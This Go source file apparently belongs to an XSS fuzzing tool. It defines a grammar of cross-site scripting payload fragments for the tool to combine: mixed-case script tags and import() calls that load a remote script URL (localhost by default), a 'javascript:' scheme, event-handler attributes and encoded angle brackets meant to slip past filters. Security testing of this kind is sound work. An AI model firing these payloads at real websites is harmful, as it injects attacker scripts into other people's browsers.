// Copyright (C) 2025 Aleutian AI (jinterlante@aleutian.ai)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.
//
// NOTE: This work is subject to additional terms under AGPL v3 Section 7.
// See the NOTICE.txt file for details regarding AI system attribution.

package tokens

import (
	"fmt"
	"os"
)

const (
	// GrammarXSS is the built-in XSS grammar.
	GrammarXSS = "xss"

	// GrammarXSSNoGrammar is the XSS fragments with every transition open.
	GrammarXSSNoGrammar = "xss-no-grammar"

	// DefaultExploitURL is loaded by the exploit fragments unless
	// REMOTE_SCRIPT_URL is set.
	DefaultExploitURL = "http://localhost:8080/xss.js"
)

// ExploitURL returns the script URL embedded in exploit fragments.
func ExploitURL() string {
	if v := os.Getenv("REMOTE_SCRIPT_URL"); v != "" {
		return v
	}
	return DefaultExploitURL
}

// Builtin returns a built-in grammar by name.
//
// Accepts "xss" and "xss-no-grammar", plus the upper-case names
// XSS_TOKENS and XSS_TOKENS_NO_GRAMMAR.
func Builtin(name string) (Grammar, error) {
	switch name {
	case GrammarXSS, "XSS_TOKENS":
		return DefaultXSS(ExploitURL()), nil
	case GrammarXSSNoGrammar, "XSS_TOKENS_NO_GRAMMAR":
		return NoGrammar(DefaultXSS(ExploitURL())), nil
	default:
		return Grammar{}, fmt.Errorf("%w: %q", ErrUnknownGrammar, name)
	}
}

// DefaultXSS returns the XSS fragment grammar with exploitURL as payload
// script source.
func DefaultXSS(exploitURL string) Grammar {
	return Grammar{
		Name: GrammarXSS,
		Sets: []Set{
			{Name: "inline", Values: []string{"jAvAsCriPt:"}},
			{Name: "trigger_exploits", Values: []string{
				`import("` + exploitURL + `")`,
				`import('` + exploitURL + `')`,
				"import(`" + exploitURL + "`)",
			}},
			{Name: "exploits", Values: []string{
				`<ScRiPt sRc="` + exploitURL + `"></ScRiPt>`,
				`<ScRiPt sRc='` + exploitURL + `'></ScRiPt>`,
				"<ScRiPt sRc=`" + exploitURL + "`></ScRiPt>",
			}},
			{Name: "literal_tokens", Values: []string{
				" ", ";", ",", "'",
				"/", "<!--", "-->", "--!>", "(", ")",
				"/*", "-", "`", "'", `"`, "*", "*/",
				"\x20", "\x27",
			}},
			{Name: "open", Values: []string{"<", "&lt;", "\x3c"}},
			{Name: "pre_token", Values: []string{"/"}},
			{Name: "html_tokens", Values: []string{"sCrIpT", "iMg", "sVg"}},
			{Name: "trigger_tokens", Values: []string{
				" oNLoAd=", " oNeRrOr=", " onClICk=", " oNFoCus=",
				" OnBlUr=", " oNtOgGle=", " oNmOuSeLeaVe=", " oNmOuSeOveR=",
			}},
			{Name: "html_break_only_tokens", Values: []string{
				"a", "bUtTon", "iNpUt", "frAmEsEt", "teMplAte", "auDio",
				"viDeO", "sOurCe", "hTmL", "nOeMbed", "noScRIpt", "StYle",
				"ifRaMe", "xMp", "texTarEa", "nOfRaMeS", "tITle",
			}},
			{Name: "pre_close", Values: []string{"/"}},
			{Name: "close", Values: []string{"&gt;", ">", "\x3e"}},
		},
		Transitions: map[string][]string{
			"inline":                 {"inline", "trigger_exploits", "literal_tokens"},
			"open":                   {"html_tokens", "pre_token"},
			"pre_token":              {"html_tokens", "html_break_only_tokens"},
			"html_tokens":            {"literal_tokens", "trigger_tokens"},
			"html_break_only_tokens": {"close"},
			"pre_close":              {"close"},
			"close":                  nil,
			"exploits":               nil,
			"literal_tokens":         nil,
			"trigger_tokens":         {"trigger_exploits", "literal_tokens"},
			"trigger_exploits":       {"trigger_tokens", "pre_close", "close", "literal_tokens"},
		},
	}
}
